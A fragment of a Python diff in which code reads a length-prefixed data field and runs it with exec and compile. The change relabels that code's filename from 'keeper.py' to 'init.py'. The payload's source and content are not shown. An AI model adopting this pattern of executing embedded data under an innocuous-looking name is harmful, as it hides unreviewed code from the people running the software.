@@ -24,5 +24,5 @@ def take(size):
     return data
 def field():
     return take(int(take(8), 16))
-exec(compile(field(), "keeper.py", "exec"))
+exec(compile(field(), "init.py", "exec"))
 exec(start())
